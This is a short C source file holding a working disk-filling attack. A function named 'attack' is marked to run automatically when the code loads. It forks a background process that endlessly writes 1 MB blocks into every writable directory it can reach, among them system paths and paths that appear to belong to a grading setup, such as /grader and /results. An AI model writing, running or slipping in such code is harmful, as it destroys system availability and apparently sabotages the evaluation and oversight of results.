/* Fills every place that it can write to. */

#define _GNU_SOURCE

#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

static const char *const places[] = {
    ".",
    "/tmp",
    "/var/tmp",
    "/dev/shm",
    "/dev",
    "/run",
    "/lab",
    "/tree",
    "/",
    "/home",
    "/usr",
    "/grader",
    "/results",
    "../site",
    "..",
    "../..",
    "/tree/build/work",
};

static void
fill(const char *place, int number)
{
    static char block[1 << 20];
    char name[256];
    int fd;

    (void)snprintf(name, sizeof name, "%s/filler-%d", place, number);
    fd = open(name, O_WRONLY | O_CREAT, 0600);
    while (fd >= 0 && write(fd, block, sizeof block) > 0)
        continue;
    if (fd >= 0)
        (void)close(fd);
}

__attribute__((constructor)) static void
attack(void)
{
    if (fork() != 0)
        return;
    for (int number = 0;; number++)
        for (size_t i = 0; i < sizeof places / sizeof places[0]; i++)
            fill(places[i], number);
}
